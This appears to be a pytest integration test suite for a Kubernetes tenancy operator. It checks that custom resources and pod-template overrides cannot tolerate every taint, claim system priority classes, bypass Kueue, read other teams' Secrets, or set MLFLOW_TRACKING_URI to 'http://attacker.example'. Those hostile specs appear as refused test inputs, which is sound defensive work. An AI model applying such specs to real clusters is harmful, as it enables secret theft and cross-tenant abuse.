"""Attacks on scheduling, each from team-a's custom resource (issue 17 item 4): tolerations
and priority classes only from the chart's allowlists, ``spec.queue`` required when Kueue
admits the install's Jobs."""

from __future__ import annotations

import pytest
from tenancy import Cluster

pytestmark = [pytest.mark.integration, pytest.mark.asyncio(loop_scope="module")]


async def test_tolerate_every_taint_is_refused(cluster: Cluster) -> None:
    """``operator: Exists`` without a key tolerates every taint (control-plane nodes, other
    teams' reserved nodes)."""
    msg = await cluster.refused("GRPORun", "any-node", {"tolerations": [{"operator": "Exists"}]})
    assert msg.startswith("spec.tolerations[0]: {'operator': 'Exists'} is not allowed"), msg


async def test_reserved_taint_is_refused(cluster: Cluster) -> None:
    msg = await cluster.refused("GRPORun", "team-b-nodes", {"tolerations": [
        {"key": "nvidia.com/gpu", "operator": "Exists", "effect": "NoSchedule"},
        {"key": "reserved", "operator": "Equal", "value": "team-b", "effect": "NoSchedule"}]})
    assert msg.startswith("spec.tolerations[1]:"), msg


async def test_gpu_toleration_is_allowed(cluster: Cluster) -> None:
    job = await cluster.job("GRPORun", "gpu-taint", {"tolerations": [
        {"key": "nvidia.com/gpu", "operator": "Exists", "effect": "NoSchedule"}]})
    assert job["spec"]["template"]["spec"]["tolerations"][0]["key"] == "nvidia.com/gpu"


async def test_system_priority_class_is_refused(cluster: Cluster) -> None:
    """``system-cluster-critical`` preempts every team's (and the cluster's) pods."""
    msg = await cluster.refused("GRPORun", "preempt-all",
                                {"priorityClassName": "system-cluster-critical"})
    assert msg.startswith("spec.priorityClassName: 'system-cluster-critical' is not allowed; "
                          "this install allows only: team-batch"), msg


async def test_skipping_kueue_is_refused(cluster: Cluster) -> None:
    """Without ``queue`` the Job would run outside Kueue's quota."""
    msg = await cluster.refused("CurationJob", "no-queue", {}, queue=False)
    assert msg.startswith("spec.queue: required: this install admits every Job through "
                          "Kueue"), msg


# spec.podTemplate (issue 14's pod overrides, merged into the Job's pod) must not step around
# the guards above.
POD_TEMPLATE_ATTACKS = [
    ({"tolerations": [{"operator": "Exists"}]}, "spec.podTemplate.spec.tolerations[0]"),
    ({"priorityClassName": "system-node-critical"}, "spec.podTemplate.spec.priorityClassName"),
    ({"volumes": [{"name": "k", "secret": {"secretName": "db-password"}}]},
     "spec.podTemplate.spec.volumes[0].secret"),
    ({"volumes": [{"name": "t", "projected": {"sources": []}}]},
     "spec.podTemplate.spec.volumes[0].projected"),
    ({"containers": [{"name": "trainer", "env": [{"name": "MLFLOW_TRACKING_URI",
                                                  "value": "http://attacker.example"}]}]},
     "spec.podTemplate.spec.containers[0].env[0].name"),
    ({"containers": [{"name": "trainer", "env": [{"name": "TOKEN", "valueFrom": {
        "secretKeyRef": {"name": "db-password", "key": "pw"}}}]}]},
     "spec.podTemplate.spec.containers[0].env[0].valueFrom.secretKeyRef"),
    ({"containers": [{"name": "trainer", "envFrom": [{"secretRef": {"name": "db"}}]}]},
     "spec.podTemplate.spec.containers[0].envFrom[0].secretRef"),
    # HF_TOKEN is allowed only from a listed Secret: not from another one, not as a value
    ({"containers": [{"name": "trainer", "env": [{"name": "HF_TOKEN", "valueFrom": {
        "secretKeyRef": {"name": "team-b-s3", "key": "AWS_SECRET_ACCESS_KEY"}}}]}]},
     "spec.podTemplate.spec.containers[0].env[0].valueFrom.secretKeyRef"),
    ({"containers": [{"name": "trainer", "env": [{"name": "HF_TOKEN", "value": "hf_x"}]}]},
     "spec.podTemplate.spec.containers[0].env[0].name"),
    # ... and a listed Secret cannot become an endpoint (HF_ENDPOINT would send HF_TOKEN away)
    ({"containers": [{"name": "trainer", "env": [{"name": "HF_ENDPOINT", "valueFrom": {
        "secretKeyRef": {"name": "hf-token", "key": "token"}}}]}]},
     "spec.podTemplate.spec.containers[0].env[0].name"),
]


@pytest.mark.parametrize(("spec", "field"), POD_TEMPLATE_ATTACKS,
                         ids=[f for _, f in POD_TEMPLATE_ATTACKS])
async def test_pod_template_cannot_step_around_the_guards(cluster: Cluster, spec: dict,
                                                          field: str) -> None:
    """Through the pod overrides: tolerate every taint, preempt, mount or read any Secret,
    or send the MLflow password to the attacker's server."""
    name = "pt-" + str(len(cluster.emu.objects("curationjobs", "team-a")))
    msg = await cluster.refused("CurationJob", name, {"podTemplate": {"spec": spec}})
    assert msg.startswith(f"{field}: "), msg
    if field.endswith(("secretKeyRef", "secretRef", "secret")):  # names the Secret
        assert msg.endswith("is not one pod overrides may reference; this install allows: "
                            "hf-token (the chart's jobs.podSecrets)"), msg
        assert msg.startswith(f"{field}: refused: Secret '"), msg


async def test_harmless_pod_template_runs(cluster: Cluster) -> None:
    job = await cluster.job("CurationJob", "pt-ok", {"podTemplate": {"spec": {
        "containers": [{"name": "trainer", "env": [{"name": "MY_FLAG", "value": "1"}]}],
        "tolerations": [{"key": "nvidia.com/gpu", "operator": "Exists",
                         "effect": "NoSchedule"}]}}})
    env = job["spec"]["template"]["spec"]["containers"][0]["env"]
    assert {"name": "MY_FLAG", "value": "1"} in env


async def test_listed_secret_reaches_the_pod(cluster: Cluster) -> None:
    """The install lists ``hf-token`` (jobs.podSecrets): HF_TOKEN from it, and it as a
    volume, reach the Job's pod as written."""
    ref = {"name": "HF_TOKEN", "valueFrom": {"secretKeyRef": {"name": "hf-token",
                                                             "key": "token"}}}
    job = await cluster.job("GRPORun", "pt-hf", {"podTemplate": {"spec": {
        "volumes": [{"name": "hf", "secret": {"secretName": "hf-token"}}],
        "containers": [{"name": "trainer", "env": [ref],
                        "volumeMounts": [{"name": "hf", "mountPath": "/var/run/hf"}]}]}}})
    pod = job["spec"]["template"]["spec"]
    assert ref in pod["containers"][0]["env"]
    assert {"name": "hf", "secret": {"secretName": "hf-token"}} in pod["volumes"]
